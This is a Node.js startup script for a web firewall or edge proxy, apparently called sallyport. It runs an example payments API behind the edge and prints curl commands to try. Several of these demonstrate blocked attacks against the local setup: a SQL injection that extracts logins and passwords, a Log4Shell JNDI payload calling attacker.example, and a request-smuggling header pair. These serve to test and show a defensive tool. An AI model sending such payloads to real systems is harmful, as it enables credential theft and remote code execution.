/** `npm start`: the example API on a loopback port, the edge in front of it by its own public entry, and commands to try.
 *  Flags: `--listen HOST:PORT` (127.0.0.1:8443), `--data DIR` (data/ of the checkout). Ctrl-C or SIGTERM stops both. */
import { type ChildProcessByStdio, spawn } from 'node:child_process'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { join, relative } from 'node:path'
import { createInterface } from 'node:readline'
import type { Readable } from 'node:stream'
import { parseArgs } from 'node:util'
import { createPaymentsApi } from './api.ts'

const checkout = join(import.meta.dirname, '../..')
const { values: flags } = parseArgs({
  options: {
    listen: { type: 'string', default: '127.0.0.1:8443' },
    data: { type: 'string', default: join(checkout, 'data') },
  },
})

const api = createPaymentsApi().listen(0, '127.0.0.1')
await once(api, 'listening')
const edge = startEdge((api.address() as AddressInfo).port)
const stop = (): void => void edge.kill('SIGTERM')
for (const signal of ['SIGINT', 'SIGTERM', 'SIGHUP'] as const) process.on(signal, stop)
// npm passes SIGTERM to the shell between us alone; the shell dies, and nobody would tell us.
const parent = process.ppid
const orphanCheckMs = 200
setInterval(() => process.ppid !== parent && stop(), orphanCheckMs).unref()
edge.on('exit', (code) => {
  process.exitCode = code ?? 1
  api.close()
  api.closeAllConnections()
})
for await (const line of createInterface({ input: edge.stderr })) {
  process.stderr.write(`${line}\n`)
  const url = /^ready public (\S+)$/.exec(line)?.[1]
  if (url !== undefined) process.stderr.write(whatToTry(url))
}

/** Its decisions go straight to our standard output; its words are read for the `ready` line and passed on. */
function startEdge(port: number): ChildProcessByStdio<null, null, Readable> {
  const program = join(checkout, 'packages/sallyport/bin/sallyport.js')
  const options = ['--upstream', `http://127.0.0.1:${port}`, '--listen', flags.listen, '--data', flags.data]
  return spawn(process.execPath, [program, 'edge', ...options], { stdio: ['ignore', 'inherit', 'pipe'] })
}

/** Each behaves as its comment says; a test runs them. */
function whatToTry(url: string): string {
  const curl = `curl -i --cacert '${relative(process.cwd(), join(flags.data, 'development-cert.pem'))}'`
  const order = JSON.stringify({
    type: 'wire',
    direction: 'credit',
    amount: 125_00,
    currency: 'EUR',
    originating_account_id: 'ac_1',
    receiving_account_id: 'ac_2',
  })
  return `
Each request below passes the edge; its decision appears here as one line of JSON.

# allowed: the list of payment orders, from the API behind the edge
${curl} ${url}/api/payment_orders

# allowed: a payment order of 125.00 EUR
${curl} ${url}/api/payment_orders -H 'Content-Type: application/json' -H 'Idempotency-Key: first' -d '${order}'

# refused with 403 by the built-in rules, never sent on: SQL injection in the query
${curl} '${url}/api/payment_orders?status=paid%27%20UNION%20SELECT%20login,password%20FROM%20users--%20-'

# refused with 403 too: Log4Shell in a JSON body
${curl} ${url}/api/payment_orders -H 'Content-Type: application/json' -d '{"memo":"$\{jndi:ldap://attacker.example/a}"}'

# refused with 400, never sent on: two lengths for one body, the start of a request smuggling attack
${curl} ${url}/api/payment_orders -H 'Transfer-Encoding: chunked' -H 'Content-Length: 4' -d 'GET '

`
}
